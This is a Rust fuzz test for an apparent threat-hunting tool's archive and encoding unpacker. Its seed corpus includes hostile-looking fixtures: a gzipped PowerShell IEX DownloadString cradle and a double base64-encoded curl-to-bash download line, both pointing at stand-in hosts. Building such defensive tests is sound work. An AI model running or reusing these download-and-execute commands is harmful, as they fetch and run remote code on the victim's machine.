//! The cargo-fuzz target's body (`fuzz_one`) over a seeded random corpus:
//! random bytes, base64-alphabet text, golden-style command lines, and
//! mutated gzip/zip/tar payloads. Any panic here is a bug.

use huntbook::transform::unpack::fuzz_one;
use std::io::{Cursor, Write};

struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
    fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next() as u8).collect()
    }
    /// Flips, inserts, deletes and truncates a few bytes.
    fn mutate(&mut self, mut v: Vec<u8>) -> Vec<u8> {
        for _ in 0..1 + self.below(4) {
            if v.is_empty() {
                break;
            }
            let at = self.below(v.len());
            match self.below(4) {
                0 => v[at] ^= 1 << self.below(8),
                1 => v.insert(at, self.next() as u8),
                2 => {
                    v.remove(at);
                }
                _ => v.truncate(at),
            }
        }
        v
    }
}

fn seeds() -> Vec<Vec<u8>> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(b"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')")
        .unwrap();
    let gz = gz.finish().unwrap();
    let mut w = ::zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = ::zip::write::SimpleFileOptions::default();
    for (n, d) in [("a.txt", &b"hello"[..]), ("b.gz", &gz[..])] {
        w.start_file(n, opts).unwrap();
        w.write_all(d).unwrap();
    }
    let zip = w.finish().unwrap().into_inner();
    let mut t = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_ustar();
    h.set_size(5);
    h.set_cksum();
    t.append_data(&mut h, "x.sh", &b"id -a"[..]).unwrap();
    let tar = t.into_inner().unwrap();
    vec![
        gz,
        zip,
        tar,
        b"powershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgAGgAZQBsAGwAbwA=".to_vec(),
        b"echo ZWNobyBZM1Z5YkNBdGN5Qm9kSFJ3T2k4dk1UazRMalV4TGpFd01DNHlNeTk0TG5Ob0lId2dZbUZ6YUE9PSB8IGJhc2U2NCAtZCB8IHNo | sh".to_vec(),
        b"/opt/splunkforwarder/bin/splunkd -p 8089".to_vec(),
        Vec::new(),
    ]
}

#[test]
fn fuzz_corpus_runs_clean() {
    let mut rng = Rng(0x5eed);
    let seeds = seeds();
    for seed in &seeds {
        fuzz_one(seed);
    }
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=\n ";
    for round in 0..2000 {
        let input = match round % 3 {
            0 => {
                let n = rng.below(400);
                rng.bytes(n)
            }
            1 => {
                let n = 20 + rng.below(300);
                (0..n)
                    .map(|_| ALPHABET[rng.below(ALPHABET.len())])
                    .collect()
            }
            _ => {
                let seed = seeds[rng.below(seeds.len())].clone();
                rng.mutate(seed)
            }
        };
        fuzz_one(&input);
    }
}
